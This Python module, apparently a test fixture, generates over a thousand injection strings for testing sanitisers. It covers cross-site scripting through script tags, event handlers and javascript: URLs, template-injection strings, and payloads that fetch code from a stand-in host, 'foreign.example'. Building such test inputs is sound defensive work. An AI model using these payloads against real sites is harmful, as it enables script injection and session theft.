"""Strings that would do something if they were taken for markup, an address or a template."""

from __future__ import annotations

from collections.abc import Iterator

FEW = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    '"><svg onload=window.owned=1>',
    "'-window.owned=1-'",
    "</blockquote></mark><iframe srcdoc='<script>parent.owned=1</script>'>",
    "{{ 7 * 191 }}{% raw %}",
    "&lt;b&gt; &amp;amp;",
    "javascript:window.owned=1",
    "\u202egnidaelsim\u202c",
)

_ACTS = (
    "window.owned=1",
    "parent.owned=1",
    "import('//foreign.example/x')",
    "location='//foreign.example/x'",
)
_MARKUP = (
    "<script>{act}</script>",
    "<script src=//foreign.example/x></script>",
    "<img src=x onerror={act}>",
    "<img src=//foreign.example/x>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src='javascript:{act}'></iframe>",
    "<object data='javascript:{act}'></object>",
    "<embed src='javascript:{act}'>",
    "<link rel=stylesheet href=//foreign.example/x>",
    "<style>@import '//foreign.example/x'</style>",
    "<style>*{{background:url(//foreign.example/x)}}</style>",
    "<base href=//foreign.example/>",
    "<meta http-equiv=refresh content='0;url=//foreign.example/x'>",
    "<form action=//foreign.example/x><button autofocus>",
    "<math><mtext><script>{act}</script></mtext></math>",
    "<template shadowrootmode=open><script>{act}</script></template>",
    "<audio src=x onerror={act}>",
    "<video><source onerror={act}></video>",
    "<a href='javascript:{act}'>x</a>",
    "<kb-search endpoint=//foreign.example></kb-search>",
)
_ADDRESSES = (
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "java\tscript:{act}",
    "\x01javascript:{act}",
    " javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "vbscript:{act}",
    "//foreign.example/x",
    "/\\foreign.example/x",
    'https://practice.example/" onmouseover="{act}',
)
_TEMPLATES = ("{{{{ {act} }}}}", "${{{act}}}", "{{% import os %}}{act}", "#{{{act}}}", "%7b%7b{act}%7d%7d")
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</mark></blockquote>{}",
    "-->{}",
    "]]>{}",
    "</title></textarea>{}",
    "\u202e{}\u0000",
)


def strings() -> Iterator[str]:
    """More than a thousand, each once."""
    seen: set[str] = set()
    for around in _AROUND:
        for act in _ACTS:
            for form in (*_MARKUP, *_ADDRESSES, *_TEMPLATES):
                text = around.format(form.format(act=act))
                if text not in seen:
                    seen.add(text)
                    yield text
